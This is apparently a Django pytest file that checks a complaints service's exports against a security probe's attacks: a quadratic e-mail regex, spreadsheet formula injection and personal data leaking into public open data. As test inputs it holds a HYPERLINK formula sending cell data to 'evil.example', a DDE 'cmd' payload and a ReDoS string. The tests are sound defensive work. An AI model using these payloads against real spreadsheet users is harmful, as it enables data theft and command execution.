"""The outside security probe's attacks on the exports and the open data, as it made them.

- A slow pattern: a description that made the e-mail pattern quadratic, filed ten times, slowed the
  public open data to 6.6 s (and everything else with it).
- Formula injection: a description, an order number and a product written as spreadsheet formulas came
  out as live formulas in the regulator's, the shop's and the public XLSX, and as formula text in the CSVs.
- Personal data in the open data: text written with full-width characters and en-dashes, WeChat ids,
  order numbers and references came back verbatim from the unauthenticated open data; and no text can be
  scrubbed of names, so the open data publishes a description only with its consumer's consent.
"""

import csv
import io
import time

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from complaintdesk.complaints.models import Complaint
from complaintdesk.complaints.tests.factories import complaint_payload

SAMPLE = (
    "我叫王小明，手机１３９１２３４５６７８，身份证１１０１０５１９９００１０１１２３４，"
    "邮箱 wangxm＠163.com，住上海市黄浦区南京东路100号3室"
)
MORE = "电话139–1234–5678，加我微信：wangxm_2026，订单JD-20261122-5567，投诉TS-2026-0000136"
PERSONAL = [
    "１３９１２３４５６７８", "13912345678", "１１０１０５１９９００１０１１２３４", "110105199001011234",
    "wangxm＠163.com", "wangxm@163.com", "南京东路", "100号3室", "139–1234–5678", "1234", "wangxm_2026",
    "JD-20261122-5567", "TS-2026-0000136",
]  # fmt: skip


def _today() -> str:
    return timezone.localdate().isoformat()


def _file(api, consumer, merchant, **fields):
    response = api(consumer).post(
        "/complaints", complaint_payload(merchant.pk, order_date=_today(), **fields)
    )
    assert response.status_code == 201, response.content
    return response.json()


def _open_data(fmt: str):
    response = Client().get("/api/v1/stats/open-data", {"start": _today(), "end": _today(), "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(body)).active.iter_rows()]


def _xlsx_rows(body: bytes) -> list[dict]:
    header, *rows = _xlsx_cells(body)
    return [{h.value: c.value for h, c in zip(header, row, strict=True)} for row in rows]


# ---------------------------------------------------------------------------- the slow e-mail pattern


@pytest.mark.django_db
def test_ten_complaints_that_made_the_email_pattern_quadratic_no_longer_slow_the_open_data(people, api):
    attack = "a" * 5000 + "@" + "a" * 4999  # the description's 10,000 characters
    for _ in range(10):  # the filing rate limit lets one account file ten an hour
        _file(api, people.alice, people.acme, description=attack, publish_consent=True)
    for fmt in ("csv", "xlsx"):
        started = time.perf_counter()
        body = _open_data(fmt)
        seconds = time.perf_counter() - started
        # Each scan took 0.6 s before (6.6 s for the ten); linear, the whole answer takes about 0.1 s.
        assert seconds < 3, f"{fmt}: {seconds:.1f} s"
        rows = _csv_rows(body) if fmt == "csv" else _xlsx_rows(body)
        assert [r["description"] for r in rows] == [attack] * 10  # no e-mail address in it: unchanged


# ---------------------------------------------------------------------- formulas in spreadsheet cells

FORMULAS = {
    "description": '=HYPERLINK("https://evil.example/?leak="&A3&B3,"x")',
    "order_number": "=1+1",
    "product": "=2+3",
}


@pytest.fixture
def formulas(people, api):
    _file(api, people.alice, people.acme, publish_consent=True, **FORMULAS)
    return people


def _downloads(people, api):
    """The complaint list as the regulator and the shop download it (web and API), and the open data."""
    regulator, shop = Client(), Client()
    regulator.force_login(people.rita)
    shop.force_login(people.bob)
    period = {"start": _today(), "end": _today(), "table": "complaints"}
    for fmt in ("csv", "xlsx"):
        for who, client in (("regulator", regulator), ("shop", shop)):
            response = client.get(reverse("web:export_complaints"), {"format": fmt})
            assert response.status_code == 200
            yield who, fmt, b"".join(response.streaming_content) if response.streaming else response.content
        for who, user in (("regulator", people.rita), ("shop", people.bob)):
            response = api(user).get("/stats/export", {**period, "format": fmt})
            assert response.status_code == 200
            yield who, fmt, b"".join(response.streaming_content) if response.streaming else response.content
        yield "public", fmt, _open_data(fmt)


@pytest.mark.django_db
def test_no_download_holds_a_formula(formulas, api):
    seen = set()
    for who, fmt, body in _downloads(formulas, api):
        if fmt == "xlsx":
            cells = [c for row in _xlsx_cells(body) for c in row]
            assert not [c.value for c in cells if c.data_type == "f"], who
            values = {c.value for c in cells}
        else:
            values = {v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row}
        assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values), (who, fmt)
        # The regulator and the shop see all three cells (the open data has no order number or product).
        expected = FORMULAS.values() if who != "public" else [FORMULAS["description"]]
        assert {"'" + formula for formula in expected} <= values, (who, fmt)
        seen.add((who, fmt))
    assert seen == {(who, fmt) for who in ("regulator", "shop", "public") for fmt in ("csv", "xlsx")}


@pytest.mark.django_db
def test_a_shop_named_as_a_formula_is_text_in_the_regulators_statistics(people, api):
    people.acme.name = "=cmd|' /C calc'!A0"
    people.acme.save()
    _file(api, people.alice, people.acme)
    period = {"start": _today(), "end": _today(), "table": "breakdown", "by": "shop"}
    csv_body = api(people.rita).get("/stats/export", {**period, "format": "csv"}).getvalue()
    assert "'=cmd|' /C calc'!A0" in [row[0] for row in csv.reader(io.StringIO(csv_body.decode("utf-8-sig")))]
    xlsx_body = api(people.rita).get("/stats/export", {**period, "format": "xlsx"}).getvalue()
    label = _xlsx_cells(xlsx_body)[1][0]
    assert (label.value, label.data_type) == ("'=cmd|' /C calc'!A0", "s")


# --------------------------------------------------------------------- personal data in the open data


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_issues_personal_data_does_not_come_back_from_the_open_data(people, api, fmt):
    _file(api, people.alice, people.acme, description=SAMPLE, publish_consent=True)
    _file(api, people.alice, people.acme, description=MORE, publish_consent=True)
    body = _open_data(fmt)
    rows = _csv_rows(body) if fmt == "csv" else _xlsx_rows(body)
    assert [r["description"] for r in rows] == [
        "我叫王小明，手机[phone]，身份证[ID number]，邮箱 [email]，住[address]",
        "电话[phone]，加我微信：[WeChat/QQ id]，订单[order number]，投诉[reference]",
    ]
    text = body.decode("utf-8-sig") if fmt == "csv" else repr(_xlsx_cells(body))
    assert not [piece for piece in PERSONAL if piece in text]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_without_consent_the_open_data_has_the_complaint_but_not_its_text(people, api, fmt):
    _file(api, people.alice, people.acme, description=SAMPLE)  # the box left unticked
    body = _open_data(fmt)
    rows = _csv_rows(body) if fmt == "csv" else _xlsx_rows(body)
    assert len(rows) == 1 and rows[0]["shop"] == "Acme Online" and rows[0]["category"] == "delivery"
    assert rows[0]["description"] in ("", None)  # not even scrubbed: the name would remain
    assert "王小明" not in (body.decode("utf-8-sig") if fmt == "csv" else repr(_xlsx_cells(body)))
    assert Complaint.objects.get().publish_consent is False
